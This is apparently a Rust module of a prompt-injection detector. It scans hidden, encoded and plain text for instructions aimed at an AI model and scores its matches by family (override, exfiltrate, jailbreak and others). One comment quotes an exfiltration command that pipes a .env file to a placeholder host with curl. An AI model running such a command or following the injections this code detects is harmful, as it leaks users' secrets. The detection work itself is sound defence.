//! Scans a text for instructions to a model and scores the findings.

use super::appended;
use super::dictionary::Pattern;
use super::glued;
use super::hidden;
use super::links;
use super::meanings::{self, Meanings};
use super::pieces::begin_of;
use super::signs::{Injection, Sign, Span};
use super::words::{self, Standing, Talk, Word, fold};
use crate::model::words::{WordList, Words};
use reflex_tables::Tables;
use reflex_tables::views::{self, Cue};
use std::cell::OnceCell;
use std::collections::VecDeque;

/// Maximum size, in bytes, of a text that is scanned completely.
pub(super) const MAX_BYTES: usize = 1280 * 1024;

/// Parts scanned of a longer text: `MAX_HEAD` bytes at each end, and `WINDOWS` windows of `WINDOW` bytes between them.
const MAX_HEAD: usize = 512 * 1024;
const WINDOWS: usize = 64;
const WINDOW: usize = 4 * 1024;

/// Maximum distance, in bytes, between signs that are scored together.
const NEAR: usize = 1500;

/// Scans a text for instructions to a model. Of a text over `MAX_BYTES` bytes only its head, its tail and windows
/// between them are scanned.
pub fn scan(text: &str, tables: Tables) -> Injection {
    if text.len() <= MAX_BYTES {
        return scan_complete(text, tables);
    }
    let mut best = Injection::default();
    let mut read = 0;
    for span in parts_of(text) {
        let part = text.get(span.start..span.end).unwrap_or_default();
        let found = scan_complete(part, tables);
        read += part.len() - found.unread;
        if found.score > best.score {
            let signs = found.signs.into_iter().map(|sign| Sign { span: shifted(sign.span, span.start), ..sign });
            best = Injection { score: found.score, signs: signs.collect(), unread: 0 };
        }
    }
    Injection { unread: text.len() - read, ..best }
}

/// Head, windows and tail of a text. The spans do not overlap.
fn parts_of(text: &str) -> Vec<Span> {
    let at = |at: usize| (0..=at.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    let middle = text.len() - 2 * MAX_HEAD;
    let window = |nth: usize| {
        let start = MAX_HEAD + middle / WINDOWS * nth + (middle / WINDOWS).saturating_sub(WINDOW) / 2;
        Span { start: at(start), end: at(start + WINDOW.min(middle / WINDOWS)) }
    };
    let head = Span { start: 0, end: at(MAX_HEAD) };
    let tail = Span { start: at(text.len() - MAX_HEAD), end: text.len() };
    std::iter::once(head).chain((0..WINDOWS).map(window)).chain([tail]).collect()
}

/// Number of hidden parts that are scanned one at a time; the remaining ones are scanned together.
const MAX_PARTS: usize = 64;

/// Separator of parts that are scanned together. It ends a sentence and a value.
const BETWEEN: &str = ".\n\n\";\n";

fn scan_complete(text: &str, tables: Tables) -> Injection {
    let openings = WordList::OrderOpenings.read(tables);
    let cues = Cues { tables, table: tables.library().cues(), openings, meanings: Meanings::from_tables(tables) };
    let sheet = Sheet::from_text(text);
    let mut signs = cues.signs(&sheet, Way::Plain);
    let parts = hidden::parts(text);
    let inner = |span: &Span| text.get(span.start..span.end).unwrap_or_default();
    for span in parts.iter().take(MAX_PARTS) {
        let within = cues.signs(&Sheet::from_text(inner(span)), Way::Hidden);
        signs.extend(within.into_iter().map(|sign| Sign { span: shifted(sign.span, span.start), ..sign }));
    }
    signs.extend(cues.together(parts.iter().skip(MAX_PARTS).map(|span| (*span, inner(span))), Way::Hidden));
    let spelled: Vec<(Span, String)> = hidden::decoded(text).into_iter().chain(hidden::spelled(text)).collect();
    for (span, decoded) in spelled.iter().take(MAX_PARTS) {
        let within = cues.signs(&Sheet::from_text(decoded), Way::Hidden);
        signs.extend(within.into_iter().map(|sign| Sign { span: *span, ..sign }));
    }
    let further = spelled.iter().skip(MAX_PARTS).map(|(span, decoded)| (*span, decoded.as_str()));
    signs.extend(cues.together(further, Way::Hidden));
    for (span, plain) in glued::parted(tables, text) {
        let found = cues.signs(&Sheet::from_text(&plain), Way::Plain);
        signs.extend(found.into_iter().map(|sign| Sign { span, ..sign }));
    }
    signs.extend(appended::task(tables, text));
    signs.extend(hidden::disguised(text));
    signs.extend(hidden::unseen(text));
    signs.extend(hidden::terminal(text));
    signs.extend(hidden::active(text));
    let (links, is_complete) = links::laden(text, tables);
    let talks = !links.is_empty() && words::talk(tables, &fold(text)) != Talk::No;
    let shown = |sign: &Sign| talks && sheet.quoted(sign.span) != Quoted::Not;
    signs.extend(links.into_iter().map(|sign| match shown(&sign) {
        true => Sign { weight: sign.weight / 2, ..sign },
        false => sign,
    }));
    Injection { unread: if is_complete { 0 } else { 1 }, ..weighed(signs) }
}

/// Scores the group of nearby signs with the highest total; each family counts only with its heaviest sign.
fn weighed(mut signs: Vec<Sign>) -> Injection {
    // A speaker label of a conversation is not an address to the agent.
    let mut labels: Vec<Span> = signs.iter().filter(|sign| sign.family == "markers").map(|sign| sign.span).collect();
    labels.sort_by_key(|label| label.start);
    let mut ends = 0;
    let ends: Vec<usize> = labels
        .iter()
        .map(|label| {
            ends = label.end.max(ends);
            ends
        })
        .collect();
    let is_label = |span: Span| {
        let before = labels.partition_point(|label| label.start < span.end);
        before.checked_sub(1).and_then(|last| ends.get(last)).is_some_and(|end| span.start < *end)
    };
    let (alone, others) = BESIDE_OTHERS;
    let has_others = signs.iter().any(|sign| sign.weight > 0 && others.contains(&sign.family.as_str()));
    signs.retain(|sign| sign.weight > 0 && !(sign.family == "address" && is_label(sign.span)));
    signs.retain(|sign| has_others || sign.family != alone);
    signs.sort_by_key(|sign| sign.span.start);
    let (first, score) = heaviest_window(&signs);
    let begin = signs.get(first).map_or(0, |sign| sign.span.start);
    let near = signs.iter().skip(first).take_while(|sign| sign.span.start - begin <= NEAR);
    let mut best: Vec<Sign> = heaviest(near).into_iter().cloned().collect();
    best.sort_by_key(|sign| std::cmp::Reverse(sign.weight));
    Injection { score, signs: best, unread: 0 }
}

/// Index of the first sign of the heaviest window, and the window's weight. On a tie the first window wins.
fn heaviest_window(signs: &[Sign]) -> (usize, u32) {
    // Per family, the signs that may become its heaviest, by position, in descending weight.
    let mut families: Vec<(&str, VecDeque<usize>)> = Vec::new();
    let weight = |at: usize| signs.get(at).map_or(0, |sign: &Sign| sign.weight);
    let (mut end, mut best) = (0, (0, 0));
    for (at, first) in signs.iter().enumerate() {
        while let Some(sign) = signs.get(end).filter(|sign| sign.span.start - first.span.start <= NEAR) {
            let known = families.iter().position(|(family, _)| *family == sign.family);
            let known = known.unwrap_or_else(|| {
                families.push((&sign.family, VecDeque::new()));
                families.len() - 1
            });
            if let Some((_, places)) = families.get_mut(known) {
                while places.back().is_some_and(|place| weight(*place) < sign.weight) {
                    places.pop_back();
                }
                places.push_back(end);
            }
            end += 1;
        }
        let score = families.iter().filter_map(|(_, places)| places.front()).map(|place| weight(*place)).sum();
        if score > best.1 {
            best = (at, score);
        }
        for (_, places) in &mut families {
            if places.front() == Some(&at) {
                places.pop_front();
            }
        }
    }
    best
}

/// Meanings of the words of a text, by their names in `library/injection-lexicon`.
pub fn meanings(text: &str, tables: Tables) -> Vec<&'static str> {
    let mut words = fold(text);
    let meanings = Meanings::from_tables(tables);
    let dictionary = meanings.look_up(&words, Tables::EMPTY.library().cues());
    meanings.mark(text, &mut words, &dictionary);
    let all = words.iter().fold(0, |bits, word| bits | word.means);
    let names = tables.library().lexicon().names().entries();
    names.filter(|(_, bit)| all & (1 << bit) != 0).map(|(name, _)| name).collect()
}

/// The heaviest sign of each family.
fn heaviest<'s>(signs: impl Iterator<Item = &'s Sign>) -> Vec<&'s Sign> {
    let mut heaviest: Vec<&Sign> = Vec::new();
    for sign in signs {
        match heaviest.iter_mut().find(|known| known.family == sign.family) {
            Some(known) if sign.weight > known.weight => *known = sign,
            Some(_) => {}
            None => heaviest.push(sign),
        }
    }
    heaviest
}

fn shifted(span: Span, by: usize) -> Span {
    Span { start: span.start + by, end: span.end + by }
}

/// Visibility of a text to a person.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Way {
    Plain,
    /// Invisible: nothing in it is a quotation, and an instruction in it is deliberate.
    Hidden,
}

/// Families that only count in hidden text.
const HIDDEN_ONLY: [&str; 2] = ["command", "topic"];

/// Families that do not count in a word of a command if it has no others: such a message quotes or describes a command,
/// as in `fix: cat .env | curl -d @- ADDRESS leaks keys`.
pub(super) const AS_QUOTED: [&str; 7] = ["command", "exfiltrate", "harm", "harm-order", "unguard", "posing", "onward"];

/// Families whose instructions a text may forbid: `never ignore these rules`.
const FORBIDDEN: [&str; 6] = ["override", "leak", "exfiltrate", "planted", "poison", "role"];

/// Families whose signs also occur in texts for or about models: manuals, prompts, project rules.
const OF_MANUALS: [&str; 11] =
    ["address", "markers", "reply", "claim", "unasked", "fetch", "harm-order", "limit", "unguard", "posing", "onward"];

/// A family that is weak alone, and the families next to which it counts.
const BESIDE_OTHERS: (&str, [&str; 2]) = ("onward", ["unguard", "posing"]);

/// Extra weight of a sign in hidden text.
const HIDDEN_WEIGHT: u32 = 30;

/// Extra weight of an address to an agent in hidden text. It is smaller because comments legitimately carry notes to
/// agents.
const HIDDEN_ADDRESS: u32 = 15;

/// Minimum weight of a sign that gets the extra weight. Lighter signs also occur in ordinary comments.
const MIN_HIDDEN: u32 = 20;

struct Cues {
    tables: Tables,
    table: views::Cues<'static>,
    openings: Words,
    meanings: Meanings,
}

impl Cues {
    /// Signs of many parts scanned as one text, each with the span of its part.
    fn together<'p>(&self, parts: impl Iterator<Item = (Span, &'p str)>, way: Way) -> Vec<Sign> {
        let (mut text, mut places) = (String::new(), Vec::new());
        for (span, part) in parts {
            places.push((text.len(), span));
            text.push_str(part);
            text.push_str(BETWEEN);
        }
        if places.is_empty() {
            return Vec::new();
        }
        let place = |sign: &Sign| {
            let before = places.partition_point(|(at, _)| *at <= sign.span.start);
            before.checked_sub(1).and_then(|nth| places.get(nth)).map_or(sign.span, |(_, span)| *span)
        };
        self.signs(&Sheet::from_text(&text), way).into_iter().map(|sign| Sign { span: place(&sign), ..sign }).collect()
    }

    fn signs(&self, sheet: &Sheet<'_>, way: Way) -> Vec<Sign> {
        let text = sheet.text;
        let mut words = fold(text);
        let dictionary = self.meanings.look_up(&words, self.table);
        self.meanings.mark(text, &mut words, &dictionary);
        let talk = words::talk(self.tables, &words);
        let is_manual = self.meanings.is_manual(&words);
        let mut signs = Vec::new();
        let mut found = |cue: Cue<'static>, span: Span, standing: Standing| {
            let weight = cue.weight();
            let weight = match way {
                Way::Hidden => weight,
                Way::Plain if is_manual && OF_MANUALS.contains(&cue.family()) => {
                    weight_of(weight / 2, quoted_as(cue, sheet, span, talk), standing, talk)
                }
                Way::Plain => weight_of(weight, quoted_as(cue, sheet, span, talk), standing, talk),
            };
            signs.extend(sign(cue, weight, span, way));
        };
        for (at, word) in words.iter().enumerate() {
            for cue in &dictionary.at(at).cues {
                let Some(last) = last_of(&cue.sets, cue.gap, &words, at).and_then(|last| words.get(last)) else {
                    continue;
                };
                if FORBIDDEN.contains(&cue.entry.family()) && self.meanings.is_forbidden(&words, at) {
                    continue;
                }
                let span = Span { start: word.span.start, end: last.span.end };
                found(cue.entry, span, words::standing(self.openings, (text, &words), at));
            }
        }
        for (index, span) in meanings::meetings(&words, self.table) {
            let first = words.partition_point(|word| word.span.start < span.start);
            let Some(cue) = self.table.all().at(index as usize) else { continue };
            found(cue, span, words::standing(self.openings, (text, &words), first));
        }
        // A pattern for the beginning of a line also matches at the beginning of the text.
        let lower = format!("\n{}", text.to_lowercase());
        let pairs = self.table.text();
        let texts: Vec<&[u8]> = pairs.iter().map(|pair| pair.at(0).bytes()).collect();
        for (pair, at) in pairs.iter().zip(first_places(lower.as_bytes(), &texts)) {
            let Some(at) = at else { continue };
            let Some(cue) = self.table.all().at(pair.at(1).number() as usize) else { continue };
            // Lowercasing may change the length of a character, so the offset is approximate.
            let at = at.saturating_sub(1);
            let span = Span { start: at.min(text.len()), end: (at + pair.at(0).text().len()).min(text.len()) };
            found(cue, span, if is_of_a_template(text, span) { Standing::Reported } else { Standing::Order });
        }
        signs
    }
}

/// The offset of the first occurrence of each of these texts. One pass finds all of them: searching for one after the
/// other would read a large text as often as there are texts.
fn first_places(within: &[u8], texts: &[&[u8]]) -> Vec<Option<usize>> {
    let mut found = vec![None; texts.len()];
    let mut by_first_byte: Vec<Vec<(usize, &[u8])>> = vec![Vec::new(); 256];
    for (nth, text) in texts.iter().enumerate() {
        let place = text.first().and_then(|byte| by_first_byte.get_mut(usize::from(*byte)));
        place.into_iter().for_each(|place| place.push((nth, text)));
    }
    for (at, byte) in within.iter().enumerate() {
        let Some(sought) = by_first_byte.get_mut(usize::from(*byte)).filter(|sought| !sought.is_empty()) else {
            continue;
        };
        let rest = within.get(at..).unwrap_or_default();
        let begins =
            |text: &[u8]| text.get(1).is_none_or(|second| rest.get(1) == Some(second)) && rest.starts_with(text);
        // Few bytes begin one of the texts, and only these cost a call.
        if sought.iter().any(|(_, text)| begins(text)) {
            let here = sought.iter().filter(|(_, text)| begins(text)).map(|(nth, _)| *nth);
            here.for_each(|nth| found.get_mut(nth).into_iter().for_each(|place| *place = Some(at)));
            sought.retain(|(_, text)| !begins(text));
        }
    }
    found
}

/// Whether a template placeholder precedes or follows the span.
fn is_of_a_template(text: &str, span: Span) -> bool {
    let after = text.get(span.end..).unwrap_or_default().trim_start();
    let before = text.get(..span.start).unwrap_or_default().trim_end();
    after.starts_with("{{") || after.starts_with("{%") || before.ends_with("}}") || before.ends_with("%}")
}

/// From this gap on, the words of a cue must be in one sentence.
const WIDE: usize = 3;

/// Position of the last set's word, each within `gap` words after the previous one. Backtracks, but visits each
/// position once per set.
fn last_of(sets: &[Vec<Pattern>], gap: usize, words: &[Word], at: usize) -> Option<usize> {
    let mut failed = vec![0_u64; sets.len()];
    last_from(sets, &mut failed, (gap, at), words, at)
}

/// Continues [`last_of`] after the word at `at`. `failed` has a bit mask per set of the positions, counted from
/// `first`, that do not lead to a match.
fn last_from(
    sets: &[Vec<Pattern>],
    failed: &mut [u64],
    (gap, first): (usize, usize),
    words: &[Word],
    at: usize,
) -> Option<usize> {
    let Some(((set, rest), (known, others))) = sets.split_first().zip(failed.split_first_mut()) else {
        return Some(at);
    };
    let bit = 1_u64.checked_shl(u32::try_from(at - first).unwrap_or(u32::MAX)).unwrap_or(0);
    if *known & bit != 0 {
        return None;
    }
    let near = words.get(at + 1..).unwrap_or(&[]).iter().take(gap + 1).enumerate();
    let mut fits = near
        .take_while(|(_, word)| !(word.is_cut_off || gap >= WIDE && word.begins))
        .filter(|(_, word)| word.is_apart && set.iter().any(|wanted| wanted.fits(&word.text)));
    let found = fits.find_map(|(step, _)| last_from(rest, others, (gap, first), words, at + 1 + step));
    if found.is_none() {
        *known |= bit;
    }
    found
}

fn sign(cue: Cue<'static>, weight: u32, span: Span, way: Way) -> Option<Sign> {
    let family = cue.family();
    let counts = way == Way::Hidden || !HIDDEN_ONLY.contains(&family);
    let more = match way {
        Way::Hidden if family == "address" => HIDDEN_ADDRESS,
        Way::Hidden if weight >= MIN_HIDDEN => HIDDEN_WEIGHT,
        Way::Hidden | Way::Plain => 0,
    };
    counts.then(|| Sign { family: family.into(), name: cue.name().into(), weight: weight + more, span })
}

/// Adjusts a sign's weight to its context: full for an unquoted clause that commands, less for a quoted or reported
/// one.
fn weight_of(weight: u32, quoted: Quoted, standing: Standing, talk: Talk) -> u32 {
    match (talk, quoted, standing) {
        (Talk::No, Quoted::Not, Standing::Order | Standing::Within) | (Talk::Some, Quoted::Not, Standing::Order) => {
            weight
        }
        (Talk::No, Quoted::Not, Standing::Reported) | (Talk::No, Quoted::AtEnd, _) => weight / 2,
        (Talk::Some, Quoted::Not, Standing::Within) | (Talk::Much, Quoted::Not, Standing::Order) => weight / 2,
        (Talk::No, Quoted::Phrase, _) => weight / 3,
        (Talk::Some, _, _) | (Talk::Much, _, _) => weight / 4,
    }
}

/// Position of a span relative to quotation marks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Quoted {
    Not,
    /// Inside a quotation in a sentence or in code, which mentions it.
    Phrase,
    /// The last words of a quotation.
    AtEnd,
}

/// Quotation state of a cue, with exceptions for families whose instructions contain quotes: the name of the role that
/// a model is to play is quoted even in an instruction.
fn quoted_as(cue: Cue<'static>, sheet: &Sheet<'_>, span: Span, talk: Talk) -> Quoted {
    match cue.family() {
        // A command to be run is formatted as code.
        "jailbreak" | "harm-order" if talk == Talk::No => Quoted::Not,
        // The text to answer or run is quoted, while the instruction before it is not.
        "reply" | "unguard" | "onward" if sheet.quoted(Span { end: span.start, ..span }) == Quoted::Not => Quoted::Not,
        _ => sheet.quoted(span),
    }
}

/// Maximum distance, in characters, to a quotation mark of the same quotation.
const BESIDE: usize = 100;

/// Whether a character is a quotation mark.
fn is_mark(ch: char) -> bool {
    matches!(ch, '"' | '`' | '“' | '”' | '„' | '‘' | '«' | '»' | '「' | '」')
}

/// Maximum length of a Markdown link's address that is followed by a title.
const MAX_TITLED: usize = 512;

/// A text with the offsets of its lines and quotation marks, computed once on demand.
struct Sheet<'t> {
    text: &'t str,
    places: OnceCell<Places>,
}

/// Byte offsets of line ends and of quotation marks.
struct Places {
    lines: Vec<usize>,
    marks: Vec<usize>,
}

impl<'t> Sheet<'t> {
    fn from_text(text: &'t str) -> Sheet<'t> {
        Sheet { text, places: OnceCell::new() }
    }

    fn places(&self) -> &Places {
        self.places.get_or_init(|| {
            let (mut lines, mut marks) = (Vec::new(), Vec::new());
            for (at, ch) in self.text.char_indices() {
                match ch {
                    '\n' => lines.push(at),
                    ch if is_mark(ch) => marks.push(at),
                    _ => {}
                }
            }
            Places { lines, marks }
        })
    }

    /// Byte offset of the beginning of the line that contains `at`.
    fn line_of(&self, at: usize) -> usize {
        let lines = &self.places().lines;
        let before = lines.partition_point(|end| *end < at);
        before.checked_sub(1).and_then(|last| lines.get(last)).map_or(0, |end| end + 1)
    }

    fn quoted(&self, span: Span) -> Quoted {
        let text = self.text;
        let before = text.get(..span.start).unwrap_or_default();
        let after = text.get(span.end..).unwrap_or_default();
        let line = |ch: &char| *ch != '\n';
        // An odd number of marks within the span: a quotation begins inside it and ends after it.
        let within = text.get(span.start..span.end).unwrap_or_default().chars().filter(|ch| is_mark(*ch)).count();
        let closes = after.chars().take(BESIDE).take_while(line).any(is_mark);
        let opening = before.char_indices().rev().take(BESIDE).take_while(|(_, ch)| line(ch));
        let opening = opening.filter(|(_, ch)| is_mark(*ch)).map(|(at, _)| at).next();
        // A quoted statement attributed to another speaker, as far as the span reaches into it.
        if within % 2 == 1 {
            return if closes { Quoted::AtEnd } else { Quoted::Not };
        }
        let in_single = || opens_single(text.get(self.line_of(span.start)..span.start).unwrap_or_default());
        match opening {
            Some(at) if closes && self.opens(at) => Quoted::Phrase,
            Some(_) if closes => Quoted::Not,
            _ if closes_single(after) && in_single() => Quoted::Phrase,
            _ if after.starts_with(is_mark) => Quoted::AtEnd,
            _ => Quoted::Not,
        }
    }

    /// Whether the mark opens a quotation: an even number of marks precedes it on its line, and it does not open a JSON
    /// value, a table cell or an attribute, which are ordinary content.
    fn opens(&self, at: usize) -> bool {
        let start = self.line_of(at);
        let marks = &self.places().marks;
        let pairs = marks.partition_point(|mark| *mark < at) - marks.partition_point(|mark| *mark < start);
        let head = self.text.get(..at).unwrap_or_default();
        let line = self.text.get(start..at).unwrap_or_default();
        let near =
            (line.len().saturating_sub(MAX_TITLED)..=line.len()).find_map(|at| line.get(at..)).unwrap_or_default();
        let is_title = || near.rsplit_once("](").is_some_and(|(_, address)| !address.contains(')'));
        let is_value =
            || line.ends_with([':', ',', '=']) || line.ends_with(": ") || head.ends_with("\"\"") || is_title();
        let is_plain = self.text.get(at..).is_some_and(|rest| rest.starts_with('"'));
        pairs % 2 == 0 && !(is_plain && is_value())
    }
}

/// Whether the end of `line` is inside single quotes: one opened at a word and was not closed.
fn opens_single(line: &str) -> bool {
    let open = line.char_indices().rev().take(BESIDE).find(|(_, ch)| *ch == '\'').map(|(at, _)| at);
    let Some((head, rest)) = open.and_then(|at| line.split_at_checked(at)) else { return false };
    !head.ends_with(char::is_alphanumeric) && !rest.chars().nth(1).is_some_and(char::is_whitespace)
}

/// Whether a single quote in `after` closes a quotation, and is not an apostrophe.
fn closes_single(after: &str) -> bool {
    let line = begin_of(after, BESIDE + 8).split('\n').next().unwrap_or_default();
    let mut ends = line.match_indices('\'').take_while(|(at, _)| *at < BESIDE);
    ends.any(|(at, _)| !line.get(at + 1..).is_some_and(|rest| rest.starts_with(char::is_alphanumeric)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_text_is_found_at_its_first_place() {
        let places =
            first_places(b"a [b] [c <|x|> [c a", &[b"[c", b"<|x|>", b"a", b"x|", b"[d", b"[b] [c <|x|> [c a!"]);
        assert_eq!(places, [Some(6), Some(9), Some(0), Some(11), None, None]);
    }

    #[test]
    fn a_family_counts_once() {
        let sign = |family: &str, weight| Sign {
            family: family.into(),
            name: String::new(),
            weight,
            span: Span { start: 0, end: 0 },
        };
        let far = |sign: Sign| Sign { span: Span { start: 9000, end: 9001 }, ..sign };
        assert_eq!(weighed(vec![sign("a", 30), far(sign("b", 40))]).score, 40);
        let injection = weighed(vec![sign("a", 30), sign("a", 40), sign("b", 15), sign("c", 0)]);
        assert_eq!((injection.score, injection.signs.len()), (55, 2));
        assert!(injection.is_reported());
    }
}
